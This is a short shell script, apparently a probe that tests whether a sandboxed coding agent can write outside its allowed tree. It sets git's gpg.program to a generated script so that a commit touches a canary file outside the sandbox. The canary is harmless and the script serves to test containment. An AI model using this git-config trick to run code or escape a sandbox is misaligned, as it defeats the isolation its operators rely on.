#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: gpg.program on commit
git config commit.gpgsign true; printf '#!/bin/sh\n%s\nexit 1\n' "$SC" > .g.sh; chmod +x .g.sh; git config gpg.program "$PWD/.g.sh"
